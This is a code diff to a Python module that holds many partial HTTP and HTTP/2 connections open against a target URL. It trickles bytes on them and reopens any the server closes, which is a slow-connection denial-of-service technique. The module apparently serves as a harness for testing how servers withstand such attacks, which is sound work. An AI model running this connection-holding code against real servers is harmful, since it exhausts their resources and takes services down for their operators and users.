@@ -7,7 +7,7 @@ import socket
 import threading
 from collections.abc import Callable, Iterator, Sequence
 from concurrent.futures import ThreadPoolExecutor
-from contextlib import ExitStack, contextmanager, suppress
+from contextlib import contextmanager, suppress
 from dataclasses import dataclass
 from typing import Protocol
 from urllib.parse import urlsplit
@@ -18,8 +18,7 @@ import requests
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes.fromhex("000000040000000000")
 #: the frame that begins a stream, without its end
 HEADERS_FRAME = bytes.fromhex("000000010400000001")
-#: connections are closed and opened again after this, in seconds: the server closes idle ones itself
-AGAIN_SECONDS = 4.0
+#: how often a client that trickles sends a byte, and connections that the server closed are opened again, in seconds
 TRICKLE_SECONDS = 0.5
 #: how long an attack takes to be under way, in seconds
 BEGIN_SECONDS = 1.5
@@ -124,24 +123,39 @@ def held(target: Target, attack: Attack) -> Iterator[None]:
 
 
 def _hold(target: Target, texts: Sequence[bytes], stop: Stop, trickle: bytes = b"") -> None:
-    """A connection for each text, opened again and again."""
+    """A connection for each text, all the time: one that is answered or closed is opened again."""
     address = urlsplit(target.url)
-    while not stop.is_set():
-        with ExitStack() as stack:
-            held_ones = [_open(address.hostname or "", address.port or 80, text, stack) for text in texts]
-            for _ in range(round(AGAIN_SECONDS / TRICKLE_SECONDS)):
-                for one in held_ones if trickle else ():
-                    with suppress(OSError):
-                        one.send(trickle)
-                if stop.wait(TRICKLE_SECONDS):
-                    return
+    where = (address.hostname or "", address.port or 80)
+    held_ones = [_open(where, text) for text in texts]
+    while not stop.wait(TRICKLE_SECONDS):
+        for index, one in enumerate(held_ones):
+            if _is_over(one):
+                one.close()
+                held_ones[index] = _open(where, texts[index])
+            elif trickle:
+                with suppress(OSError):
+                    one.send(trickle)
+    for one in held_ones:
+        one.close()
 
 
-def _open(host: str, port: int, text: bytes, stack: ExitStack) -> socket.socket:
+def _open(where: tuple[str, int], text: bytes) -> socket.socket:
     """A connection on which this was sent, as far as the server took it."""
-    connection = stack.enter_context(socket.socket())
+    connection = socket.socket()
     connection.settimeout(2)
     with suppress(OSError):
-        connection.connect((host, port))
+        connection.connect(where)
         connection.sendall(text)
+    connection.setblocking(False)
     return connection
+
+
+def _is_over(connection: socket.socket) -> bool:
+    """Whether the server answered or closed the connection, or never accepted it."""
+    try:
+        connection.recv(65536)
+    except BlockingIOError:
+        return False
+    except OSError:
+        return True
+    return True
